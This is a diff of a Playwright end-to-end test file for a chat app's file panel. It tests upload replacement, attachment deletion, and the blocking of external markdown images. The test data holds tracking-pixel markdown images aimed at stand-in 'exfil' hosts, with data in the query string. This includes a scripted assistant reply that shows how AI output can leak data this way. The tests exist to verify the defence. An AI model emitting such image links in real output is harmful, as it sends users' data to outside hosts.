@@ -2,14 +2,15 @@ import fs from "node:fs/promises";
 import { expect, test, type Locator, type Page } from "@playwright/test";
 import { ADMIN, createUser, signIn, signInAsAdmin, type CreatedUser } from "./helpers/auth";
 import { mock, scriptMarker } from "./helpers/chat";
-import { createTrustedAgent, dropFiles, throttleUploads } from "./helpers/files";
+import { createTrustedAgent, DOT_PNG, dropFiles, requestsTo, throttleUploads } from "./helpers/files";
 import { uniqueName } from "./helpers/org";
 
 /**
  * Issue 4, files in the browser: drag-and-drop upload with progress, the agent reads the file
  * (scripted read_file) while the chat never shows an attachment block, an artifact opened in
- * the file panel and downloaded, another user refused (404), and the panel's own upload and
- * delete in the personal workspace.
+ * the file panel and downloaded, another user refused (404), the panel's own upload (asking
+ * before a replace) and delete in the personal workspace, a removed chip's file deleted, and
+ * external markdown images never fetched.
  */
 
 const suffix = uniqueName("f").slice(2).toLowerCase();
@@ -190,7 +191,7 @@ test("drop a file, the agent reads it, present an artifact, open and download it
   await other.dispose();
 });
 
-test("the file panel uploads into and deletes from the personal workspace", async ({ page }) => {
+test("the file panel uploads into the personal workspace, asks before replacing, previews safely, deletes", async ({ page }) => {
   await signInThroughForm(page);
   await clickUntilVisible(page.getByTestId("files-toggle"), page.getByTestId("file-panel"));
   const panel = page.getByTestId("file-panel");
@@ -199,21 +200,75 @@ test("the file panel uploads into and deletes from the personal workspace", asyn
   await expect(panel.getByTestId("file-tree").or(panel.getByTestId("file-tree-empty"))).toBeVisible();
 
   const name = `notes-${suffix}.md`;
-  await panel.getByTestId("file-upload-input").setInputFiles({
-    name,
-    mimeType: "text/markdown",
-    buffer: Buffer.from(`## Personal notes\n\nKEPT-${suffix}\n\n\`\`\`ts\nconst answer = 42;\n\`\`\`\n`),
+  const path = `/home/gem/user-data/${name}`;
+  const upload = async (body: string) =>
+    panel.getByTestId("file-upload-input").setInputFiles({ name, mimeType: "text/markdown", buffer: Buffer.from(body) });
+  const stored = async () => (await page.request.get(`/api/workspace/files?path=${encodeURIComponent(path)}`)).text();
+  const puts: string[] = [];
+  page.on("request", (request) => {
+    if (request.method() === "PUT" && request.url().includes("/api/workspace/files")) puts.push(request.url());
   });
-  const entry = panel.locator(`[data-testid="file-entry"][data-path="/home/gem/user-data/${name}"]`);
+
+  await upload(`FIRST-${suffix}\n`);
+  const entry = panel.locator(`[data-testid="file-entry"][data-path="${path}"]`);
   await expect(entry).toBeVisible();
   await expect(entry).toHaveAttribute("data-kind", "file");
+  expect(puts).toHaveLength(1);
+
+  // --- The same name again: nothing is sent until "Replace"; "Cancel" keeps the old content.
+  const host = `exfil-${suffix}.example`;
+  const outside = requestsTo(page.context(), host);
+  const second = [
+    "## Personal notes",
+    `KEPT-${suffix}`,
+    `![tracker](https://${host}/pixel.png?d=KEPT-${suffix})`,
+    `![dot](${DOT_PNG})`,
+    "```ts\nconst answer = 42;\n```",
+  ].join("\n\n");
+  // The open one of the panel's confirm dialogs (a closed <dialog> has no role).
+  const dialog = panel.getByRole("dialog");
+  await upload(second);
+  await expect(dialog).toBeVisible();
+  await expect(dialog).toContainText(`Replace “${name}”?`);
+  await expect(dialog.getByTestId("confirm-accept")).toHaveText("Replace");
+  await page.screenshot({ path: shot("replace-confirm") });
+  await dialog.getByTestId("confirm-cancel").click();
+  await expect(dialog).toBeHidden();
+  expect(puts).toHaveLength(1);
+  expect(await stored()).toBe(`FIRST-${suffix}\n`);
+
+  await upload(second);
+  await expect(dialog).toBeVisible();
+  const replaced = page.waitForResponse((r) => r.url().includes("/api/workspace/files") && r.request().method() === "PUT");
+  await dialog.getByTestId("confirm-accept").click();
+  expect((await replaced).status()).toBe(200);
+  expect(puts).toHaveLength(2);
+  expect(await stored()).toBe(second);
+
+  // --- The markdown preview: the inline image shows, the external one is only named and never fetched.
   await entry.click();
   const preview = panel.getByTestId("file-preview");
   await expect(preview.locator("h2")).toHaveText("Personal notes");
   await expect(preview.getByTestId("code-block")).toContainText("const answer = 42;");
+  const dot = preview.locator('img[alt="dot"]');
+  await expect.poll(() => dot.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
+  const blocked = preview.getByTestId("markdown-blocked-image");
+  await expect(blocked).toHaveText("tracker");
+  await expect(blocked).toHaveAttribute("href", `https://${host}/pixel.png?d=KEPT-${suffix}`);
+  await expect(blocked).toHaveAttribute("target", "_blank");
+  await expect(blocked).toHaveAttribute("rel", "noopener noreferrer");
+  await expect(blocked).toHaveAttribute("title", /not loaded automatically/);
+  await expect(preview.locator(`img[src*="${host}"]`)).toHaveCount(0);
+  await preview.screenshot({ path: shot("blocked-image") });
+  expect(outside).toEqual([]);
+  // Only a click opens it, in a new tab (answered here: the host does not exist).
+  await page.context().route(`https://${host}/**`, (route) => route.fulfill({ contentType: "text/plain", body: "opened" }));
+  const [tab] = await Promise.all([page.waitForEvent("popup"), blocked.click()]);
+  await expect.poll(() => tab.url()).toContain(host);
+  expect(outside.length).toBeGreaterThan(0);
+  await tab.close();
 
   await preview.getByTestId("file-delete").click();
-  const dialog = panel.getByTestId("confirm-dialog");
   await expect(dialog).toBeVisible();
   await expect(dialog).toContainText(name);
   await dialog.getByTestId("confirm-accept").click();
@@ -221,7 +276,7 @@ test("the file panel uploads into and deletes from the personal workspace", asyn
   await expect(entry).toHaveCount(0);
 });
 
-test("an image pasted into a new chat is uploaded before the first message and previews in the panel", async ({ page }) => {
+test("an image pasted into a new chat previews in the panel; removing its chip deletes it before the first message", async ({ page }) => {
   await signInThroughForm(page);
   const uploaded = page.waitForResponse((r) => r.url().includes("/uploads") && r.request().method() === "POST");
   // A screenshot-like image on the clipboard, pasted into the message box.
@@ -258,11 +313,45 @@ test("an image pasted into a new chat is uploaded before the first message and p
   await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(160);
   await page.screenshot({ path: shot("panel-image") });
 
-  // Removing the chip only takes it out of view: the file stays in the chat.
+  // Removing the chip deletes the upload: while the server cannot be reached it stays, with
+  // the reason; then it is gone from the chat's files and the preview closes.
+  const threadId = upload.path.split("/").at(-3)!;
+  const fileUrl = `/api/threads/${threadId}/files?path=${encodeURIComponent(upload.path)}`;
+  await page.context().setOffline(true);
   await chip.getByTestId("attachment-remove").click();
+  await expect(chip.getByTestId("attachment-remove-error")).toHaveText("Not removed: Network error — try again");
+  await expect(chip).toHaveAttribute("data-status", "done");
+  await page.getByTestId("composer").screenshot({ path: shot("chip-remove-failed") });
+  await page.context().setOffline(false);
+  expect((await page.request.get(fileUrl)).status()).toBe(200);
+  const deleted = page.waitForResponse((r) => r.url().endsWith(fileUrl) && r.request().method() === "DELETE");
+  await chip.getByTestId("attachment-remove").click();
+  expect((await deleted).status()).toBe(204);
   await expect(chip).toHaveCount(0);
-  await panel.getByTestId("file-preview-back").click();
-  await expect(entry).toBeVisible();
+  await expect(image).toBeHidden();
+  await expect(panel.getByTestId("file-tree").or(panel.getByTestId("file-tree-empty"))).toBeVisible();
+  await expect(entry).toHaveCount(0);
+  expect((await page.request.get(fileUrl)).status()).toBe(404);
+
+  // The next run does not list it to the model; an external image in the answer is not fetched.
+  const key = `files-removed-${suffix}`;
+  const host = `pixel-${suffix}.example`;
+  const outside = requestsTo(page.context(), host);
+  await mock.script(key, [{ text: `Nothing attached. REMOVED-DONE ![pixel](https://${host}/p.png?d=${suffix})` }]);
+  await page.getByTestId("composer-input").fill(`Anything attached? ${scriptMarker(key)}`);
+  await page.getByTestId("send-button").click();
+  await expect(page).toHaveURL(new RegExp(`/chat/${threadId}$`));
+  const answer = page.getByTestId("message-assistant").last();
+  await expect(answer).toContainText("REMOVED-DONE");
+  await expect(answer.getByTestId("markdown-blocked-image")).toHaveText("pixel");
+  await answer.screenshot({ path: shot("answer-blocked-image") });
+  const requests = await mock.requests(key);
+  expect(requests).toHaveLength(1);
+  const sent = JSON.stringify((requests[0].body as { messages: unknown[] }).messages);
+  expect(sent).toContain("Anything attached?");
+  expect(sent).not.toContain(upload.path);
+  expect(sent).not.toContain("<attachments>");
+  expect(outside).toEqual([]);
 
   // On a phone the panel is a drawer over the chat, no wider than the screen.
   await page.setViewportSize({ width: 390, height: 844 });
